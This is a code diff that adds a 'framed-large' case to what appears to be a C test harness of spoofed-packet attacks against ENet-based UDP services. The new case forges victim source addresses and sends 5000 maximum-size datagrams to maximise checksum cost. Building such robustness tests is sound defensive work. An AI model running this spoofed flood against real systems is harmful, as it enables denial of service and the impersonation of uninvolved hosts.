@@ -6,6 +6,7 @@
 #include <arpa/inet.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 
 /// Writes the n-th datagram and its sender.
 typedef void write_t(const attack_t *attack, datagram_t *out, struct sockaddr_in *from, uint32_t n);
@@ -111,10 +112,27 @@ static void framed(attack_t *attack) {
     }
 }
 
+// The longest datagrams that ENet reads, whose checksum costs most.
+static void write_framed_large(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
+                               uint32_t n) {
+    uint32_t guess = n / attack->victims;
+    *from = attack->victim[n % attack->victims];
+    memset(out->bytes, (int)n, sizeof out->bytes);
+    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
+    out->size = 4090; // with any checksum: that of the real connection is not known
+}
+
+static void framed_large(attack_t *attack) {
+    if (attack->victims > 0) {
+        send_at(attack, 5000, write_framed_large);
+    }
+}
+
 const attack_row_t spoof_rows[] = {
     {"port-zero", port_zero},
     {"martians", martians},
     {"forged-disconnect", forged_disconnect},
     {"framed", framed},
+    {"framed-large", framed_large},
     {0},
 };
